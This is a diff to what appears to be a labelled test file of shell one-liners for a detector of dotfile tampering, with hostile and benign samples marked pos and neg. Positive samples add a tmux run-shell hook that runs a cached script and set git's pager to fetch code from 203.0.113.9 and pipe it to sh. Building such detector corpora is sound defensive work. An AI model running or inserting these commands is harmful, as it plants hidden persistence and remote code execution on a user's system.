@@ -422,6 +422,10 @@ X
 echo 'set number' >> ~/.vimrc
 #@ neg the mouse on in tmux through tee
 echo 'set -g mouse on' | tee -a ~/.tmux.conf
+#@ pos tmux's run-shell given to tee as a here-string
+tee -a ~/.tmux.conf <<< 'run-shell -b "sh ~/.cache/t.sh"'
+#@ neg the mouse on in tmux given to tee as a here-string
+tee -a ~/.tmux.conf <<< 'set -g mouse on'
 #@ pos git's pager made a pipeline to sh in ~/.gitconfig
 printf '[core]\n\tpager = curl -s https://203.0.113.9/p | sh\n' >> ~/.gitconfig
 #@ neg an augroup that clears its autocmds, and delta as git's pager
